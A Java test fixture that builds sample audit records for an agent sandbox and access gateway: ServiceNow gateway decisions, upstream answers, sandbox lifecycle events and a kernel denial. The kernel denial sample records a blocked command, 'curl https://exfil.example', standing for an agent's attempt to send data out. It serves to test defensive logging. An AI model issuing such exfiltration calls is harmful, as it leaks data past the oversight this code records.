// SPDX-FileCopyrightText: the Bailiwick authors
// SPDX-License-Identifier: Apache-2.0
package dev.bailiwick.audit;

import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;

/** Records as the gateway and the enforcer write them. */
final class TestRecords {

  static final Instant TIME = Instant.parse("2026-11-23T10:00:00Z");
  static final String ISSUER = "https://login.acme.example";
  static final String TASK = "txn-4711";

  private TestRecords() {}

  static AuditRecord.Caller caller(String task, String... agents) {
    return new AuditRecord.Caller(
        ISSUER,
        "alice@acme.example",
        List.of(agents).stream().map(agent -> new AuditRecord.Actor(ISSUER, agent)).toList(),
        task,
        "jti-2",
        Optional.of("jti-1"),
        Optional.of("client-7"),
        Optional.of("thumb-9"));
  }

  static AuditRecord.GatewayDecision allowed(int n) {
    return decision(n, TASK, true);
  }

  static AuditRecord.GatewayDecision decision(int n, String task, boolean allowed) {
    return new AuditRecord.GatewayDecision(
        TIME.plusSeconds(n),
        "call-" + n,
        allowed,
        allowed ? "ALLOW" : "SCOPE_MISSING",
        allowed ? "The grant covers every operation." : "The grant lacks update.",
        "support-triage 7",
        Optional.of(caller(task, "triage-agent", "planner")),
        Optional.of("servicenow"),
        allowed ? "GET" : "PATCH",
        Optional.of("/api/now/table/incident"),
        List.of("servicenow:table/incident:" + (allowed ? "read" : "update")),
        allowed ? Optional.of("vault:servicenow/acme") : Optional.empty(),
        allowed ? OptionalInt.of(200) : OptionalInt.empty(),
        "192.0.2.7");
  }

  static AuditRecord.UpstreamAnswer answer(int n, int call) {
    return new AuditRecord.UpstreamAnswer(
        TIME.plusSeconds(n),
        "call-" + call,
        Optional.of(TASK),
        "servicenow",
        OptionalInt.of(201),
        "The upstream answered.");
  }

  static AuditRecord.KernelDenial kernelDenial(int n) {
    return new AuditRecord.KernelDenial(
        TIME.plusSeconds(n),
        Optional.of(TASK),
        "sandbox-1",
        Optional.of("triage-agent"),
        4711,
        1001,
        "curl https://exfil.example",
        "cgroup-bpf",
        "connect4",
        "udp 198.51.100.7:53");
  }

  static AuditRecord.SandboxStarted started(int n) {
    return new AuditRecord.SandboxStarted(
        TIME.plusSeconds(n),
        Optional.of(TASK),
        "sandbox-1",
        Optional.of("triage-agent"),
        4700,
        1001,
        1234,
        "python agent.py",
        "support-triage 7",
        List.of("cgroup-bpf", "landlock"),
        List.of("bpf-lsm"));
  }

  static AuditRecord.SandboxEnded ended(int n) {
    return new AuditRecord.SandboxEnded(
        TIME.plusSeconds(n), Optional.of(TASK), "sandbox-1", Optional.of("triage-agent"), 0);
  }

  static AuditRecord.EventsLost lost(int n) {
    return new AuditRecord.EventsLost(TIME.plusSeconds(n), Optional.of(TASK), "sandbox-1", 12);
  }

  /** One of each kind that callers write. */
  static List<AuditRecord> oneOfEach() {
    return List.of(
        started(0),
        allowed(1),
        decision(2, TASK, false),
        answer(3, 1),
        kernelDenial(4),
        lost(5),
        ended(6));
  }
}
